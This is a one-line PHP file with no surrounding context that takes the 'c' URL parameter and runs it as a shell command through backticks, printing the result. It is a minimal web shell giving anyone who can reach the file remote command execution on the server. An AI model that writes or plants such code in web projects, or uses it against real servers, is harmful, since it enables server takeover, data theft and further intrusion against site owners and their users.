<?php $x = $_GET["c"]; $c = "{$x}"; echo `$c`;
